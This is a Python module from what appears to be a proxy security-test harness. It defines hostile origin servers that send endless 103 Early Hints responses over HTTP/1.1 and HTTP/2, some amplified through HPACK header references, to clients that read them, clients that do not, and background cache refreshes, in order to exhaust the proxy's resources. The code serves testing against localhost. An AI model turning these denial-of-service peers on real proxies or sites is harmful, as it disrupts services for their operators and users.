# SPDX-License-Identifier: Apache-2.0
"""Accepted origins that send 103 (Early Hints) without end, to clients that read them and to clients that do not."""
from __future__ import annotations

import time

import http2_bytes as h2
from origin import H2_HOST, OTHER_HOST
from stage import Peer, Stage

HINT = b"HTTP/1.1 103 Early Hints\r\nLink: <" + b"a" * 900 + b">; rel=preload\r\n\r\n"


def wait_unread(stage: Stage, connection) -> None:
    """Reads nothing until the attack is over."""
    while stage.goes_on:
        time.sleep(0.05)
    connection.close()


def read_all(stage: Stage, connection) -> None:
    connection.settimeout(1)
    while stage.goes_on:
        try:
            if not connection.recv(1 << 20):
                return
        except TimeoutError:
            continue


class OverHTTP1(Peer):
    def __init__(self, name: str, title: str, fields: str, reads: bool, is_short: bool) -> None:
        self.name, self.title, self.fields, self.reads, self.is_short = name, title, fields, reads, is_short

    def settings(self, stage: Stage) -> dict:
        self.stage = stage
        return {"hosts": {OTHER_HOST: {"resolve": f"127.0.0.1:{stage.serve(self._serve)}"}}}

    def _serve(self, connection) -> None:
        tls = self.stage.tls(connection)
        tls.recv(4096)
        hints = HINT * 256
        while self.stage.goes_on:
            tls.sendall(hints)

    def attack(self, stage: Stage) -> None:
        def ask() -> None:
            connection = stage.connect()
            connection.sendall(f"GET http://{OTHER_HOST}/ HTTP/1.1\r\nHost: {OTHER_HOST}\r\n{self.fields}\r\n".encode())
            (read_all if self.reads else wait_unread)(stage, connection)
        stage.at_once(3, ask)


class OverHTTP2(Peer):
    name = "103-h2"
    title = "5: 103 without end over HTTP/2, made of HPACK references"

    def settings(self, stage: Stage) -> dict:
        self.stage = stage
        port = stage.serve(self._serve)
        return {"hosts": {H2_HOST: {"resolve": f"127.0.0.1:{port}", "httpVersion": "2"}}}

    def _serve(self, connection) -> None:
        tls = self.stage.tls(connection, ("h2",))
        reader = h2.Reader(tls)
        reader.skip_preface()
        tls.sendall(h2.settings())
        while True:
            kind, _, stream, _ = reader.frame()
            if kind == h2.HEADERS:
                break
        tls.sendall(h2.frame(h2.SETTINGS, h2.ACK, 0))
        value = b"<" + b"a" * 3900 + b">; rel=preload"
        tls.sendall(h2.head(stream, h2.status(103) + h2.literal(b"link", value, is_kept=True)))
        hints = h2.head(stream, h2.status(103) + h2.LATEST * 14) * 256
        while self.stage.goes_on:
            tls.sendall(hints)

    def attack(self, stage: Stage) -> None:
        def ask() -> None:
            connection = stage.connect()
            connection.sendall(f"GET http://{H2_HOST}/ HTTP/1.1\r\nHost: {H2_HOST}\r\n\r\n".encode())
            wait_unread(stage, connection)
        stage.at_once(2, ask)


class ToHTTP2Clients(OverHTTP1):
    """The client speaks HTTP/2, and takes no bytes."""

    def settings(self, stage: Stage) -> dict:
        return super().settings(stage) | {"listeners": [{"address": "127.0.0.1:0", "http2": True}]}

    def attack(self, stage: Stage) -> None:
        def ask() -> None:
            connection = stage.connect(1)
            connection.sendall(h2.PREFACE + h2.settings({h2.INITIAL_WINDOW: 0})
                               + h2.head(1, h2.request_fields(OTHER_HOST), ends_stream=True))
            wait_unread(stage, connection)
        stage.at_once(3, ask)


class ToNobody(OverHTTP1):
    """A background refresh has no client."""

    def settings(self, stage: Stage) -> dict:
        self.is_stored = False
        return super().settings(stage) | {"cache": {"memory": "4MB"}}

    def _serve(self, connection) -> None:
        tls = self.stage.tls(connection)
        while tls.recv(4096):
            if not self.is_stored:
                self.is_stored = True
                tls.sendall(b"HTTP/1.1 200 OK\r\nCache-Control: max-age=1, stale-while-revalidate=600\r\n"
                            b"Content-Length: 2\r\n\r\nok")
                continue
            while self.stage.goes_on:
                tls.sendall(HINT * 256)

    def attack(self, stage: Stage) -> None:
        stage.ask(f"http://{OTHER_HOST}/")
        # Until it is stale.
        stage.deadline += 2
        stage.is_over.wait(2)
        stage.ask(f"http://{OTHER_HOST}/")
        while stage.goes_on:
            time.sleep(0.05)


PEERS = [
    OverHTTP1("103", "5: 103 without end over HTTP/1.1, client does not read", "", False, True),
    OverHTTP1("103-read", "5: the same, client reads", "", True, False),
    OverHTTP1("103-upgrade", "5: the same behind Upgrade", "Connection: upgrade\r\nUpgrade: websocket\r\n", False, False),
    ToHTTP2Clients("103-h2-client", "5: the same to a client of HTTP/2", "", False, False),
    ToNobody("103-refresh", "5: the same to a background refresh", "", False, False),
    OverHTTP2(),
]
